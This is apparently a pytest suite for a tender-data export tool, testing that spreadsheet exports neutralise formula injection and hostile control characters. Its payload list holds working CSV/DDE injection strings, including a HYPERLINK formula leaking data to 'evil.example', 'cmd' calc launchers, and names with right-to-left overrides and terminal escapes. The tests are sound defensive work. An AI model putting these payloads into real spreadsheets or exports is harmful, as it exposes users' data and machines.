"""Exports of hostile text: every text field of every table (names, titles, codes, addresses, ids, station
evidence, attachment names and URLs) carries a formula, and names carry control characters and right-to-left
overrides. Guarantees:

- XLSX: no cell is ever a formula; the text is kept (control characters that XML cannot hold are dropped).
- CSV with --excel: no field starts a formula except ids written as Excel string literals ``="..."``, which
  cannot break out; the text is kept after a leading apostrophe.
- plain CSV, JSON Lines, Parquet: the text exactly as published (they are for programs; README says so),
  and every row still parses as one row whatever newlines or control characters the names hold.
"""

from __future__ import annotations

import csv
import json
import re
from itertools import cycle

import pytest
from pydantic import BaseModel

from tenderscan import parse
from tenderscan.services.export.columns import FileFormat, Table
from tenderscan.services.export.tables import export
from tenderscan.services.export.text_files import FORMULA_START
from tenderscan.models import Evidence, Station, Tender
from tests.conftest import ZAKUPKI, run

SAMPLES = [
    "44fz_fcs_printform_fcsNotificationEF_0301300140921000011.xml",
    "44fz_contracts_export_contract_2366200608816001262_30400522.xml",
    "44fz_fcs_export_fcsProtocolEF3_0111100000217000017_15585361.xml",
]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1")&cmd|"/C calc"!A0&("',  # tries to break out of an ="..." id literal
    "=" + "A" * 300,  # too long for an ="..." literal
]
RLO, ESC = "\u202e", "\x1b"
NAMES = [
    f"ООО «Рога{RLO}fdp.exe»",
    f"Name{ESC}[31m red{ESC}[0m",
    "two\nlines\r\nand\x00null\x07bell",
    f"=cmd{RLO}",
]
LITERAL = re.compile(r'^="(?:[^"]|"")*"$')


def _poison(model: BaseModel, values) -> None:
    for name in type(model).model_fields:
        v = getattr(model, name)
        if type(v) is str and name not in ("source_format",):
            setattr(model, name, next(values))
        elif isinstance(v, BaseModel):
            _poison(v, values)
        elif isinstance(v, list):
            for i, x in enumerate(v):
                if isinstance(x, str):
                    v[i] = next(values)
                elif isinstance(x, BaseModel):
                    _poison(x, values)


@pytest.fixture(scope="module")
def tenders() -> list[Tender]:
    out = []
    values = cycle(PAYLOADS + NAMES)
    for name in SAMPLES:
        [t] = parse(str(ZAKUPKI / name), stations=False)
        t.stations = [
            Station(
                name="Охотный Ряд",
                line="Сокольническая",
                city="Москва",
                candidate_lines=["Сокольническая"],
                evidence=[Evidence(field="title", text="x")],
            )
        ]
        _poison(t, values)
        if t.customer:
            t.customer.name = NAMES[0]
        out.append(t)
    return out


def written_texts(tenders: list[Tender]) -> set[str]:
    seen: set[str] = set()

    def walk(m):
        for name in type(m).model_fields:
            v = getattr(m, name)
            if isinstance(v, str):
                seen.add(v)
            elif isinstance(v, BaseModel):
                walk(v)
            elif isinstance(v, list):
                for x in v:
                    seen.add(x) if isinstance(x, str) else walk(x) if isinstance(x, BaseModel) else None

    for t in tenders:
        walk(t)
    return seen


@pytest.mark.parametrize("table", list(Table))
def test_xlsx_never_holds_a_formula(table, tenders, tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / f"{table.value}.xlsx"
    export(tenders, table, path)
    ws = load_workbook(path).active
    texts = 0
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts += 1
                if cell.value.startswith(FORMULA_START):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
    assert texts > 0


@pytest.mark.parametrize("table", list(Table))
def test_excel_csv_starts_no_formula(table, tenders, tmp_path):
    path = tmp_path / f"{table.value}.csv"
    export(tenders, table, path, excel=True, delimiter=";")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert len(rows) > 1
    neutralised = 0
    for row in rows[1:]:
        for field in row:
            if LITERAL.match(field):
                continue  # an id as an Excel string literal: evaluates to the text, nothing else
            assert not field.startswith(FORMULA_START), field
            neutralised += field.startswith("'") and field[1:2] in FORMULA_START
    if table in (Table.documents, Table.items, Table.parties, Table.attachments):
        assert neutralised > 0


@pytest.mark.parametrize("table", list(Table))
def test_plain_csv_jsonl_parquet_keep_the_text_exactly(table, tenders, tmp_path):
    import pyarrow.parquet as pq

    expected = written_texts(tenders)
    csv_path, jsonl_path, pq_path = (tmp_path / f"t.{ext}" for ext in ("csv", "jsonl", "parquet"))
    n = export(tenders, table, csv_path).rows
    export(tenders, table, jsonl_path)
    export(tenders, table, pq_path)
    with open(csv_path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == n + 1, "newlines and control characters in names never split a row"
    lines = [json.loads(line) for line in jsonl_path.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == n
    table_pq = pq.read_table(pq_path).to_pylist()
    hostile = set(PAYLOADS + NAMES)

    def cells(rows) -> list[str]:
        return sorted(c for r in rows for c in r if c in hostile)

    from_jsonl = cells([list(r.values()) for r in lines])
    assert from_jsonl, "the hostile texts reach the table"
    assert cells(rows[1:]) == from_jsonl, "plain CSV holds the same texts, exactly"
    assert cells([list(r.values()) for r in table_pq]) == from_jsonl
    assert expected >= set(from_jsonl)


def test_control_characters_and_rtl_marks_in_names(tenders, tmp_path):
    from openpyxl import load_workbook

    xlsx = tmp_path / "parties.xlsx"
    export(tenders, Table.parties, xlsx)
    ws = load_workbook(xlsx).active
    col = [c.value for c in ws[1]].index("name")
    names = [row[col] for row in ws.iter_rows(min_row=2, values_only=True) if row[col]]
    assert NAMES[0] in names, "a right-to-left override is legal text: kept"
    assert all(ESC not in n and "\x00" not in n and "\x07" not in n for n in names), (
        "characters XML cannot hold are dropped, never an unreadable file"
    )
    plain = tmp_path / "parties.csv"
    export(tenders, Table.parties, plain)
    text = plain.read_text(encoding="utf-8")
    assert NAMES[0] in text and ESC in text, "plain CSV is exact"


def test_through_the_cli(tmp_path):
    """The same through `tenderscan export`: a real notice whose object name is a formula."""
    src = ZAKUPKI / "44fz_fcs_printform_fcsNotificationEF_0301300140921000011.xml"
    data = src.read_bytes().replace(
        "<MNNName>ФОРМАЛЬДЕГИД</MNNName>".encode(),
        f"<MNNName>@SUM(1+1)*cmd|' /C calc'!A0 {RLO}</MNNName>".encode(),
    )
    f = tmp_path / "notice.xml"
    f.write_bytes(data)
    for out, extra in ((tmp_path / "items.xlsx", []), (tmp_path / "items.csv", ["--excel"])):
        r = run("export", str(f), "--table", "items", "-o", str(out), *extra)
        assert r.exit_code == 0, r.stderr
    from openpyxl import load_workbook

    cells = [c for row in load_workbook(tmp_path / "items.xlsx").active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(isinstance(c.value, str) and c.value.startswith("@SUM") for c in cells)
    assert "'@SUM(1+1)" in (tmp_path / "items.csv").read_text(encoding="utf-8-sig")


def test_file_format_enum_covered():
    assert {f.value for f in FileFormat} == {"csv", "xlsx", "parquet", "jsonl"}


def test_show_csv_keeps_one_row_per_item_whatever_the_names_hold(tmp_path):
    from tests.conftest import FIXTURES

    doc = json.loads((FIXTURES / "prozorro" / "tender_to_render.json").read_text(encoding="utf-8"))
    doc["items"][0]["description"] = 'first\rsecond\nthird, "quoted"'
    f = tmp_path / "tender.json"
    f.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    r = run("show", "--format", "csv", str(f))
    assert r.exit_code == 0, r.stderr
    rows = list(csv.reader(r.stdout.splitlines(keepends=True)))
    assert len(rows) == 1 + len(doc["items"])
    assert rows[1][rows[0].index("item_name")].endswith(
        'third, "quoted"'
    )  # (whitespace runs folded by the reader)
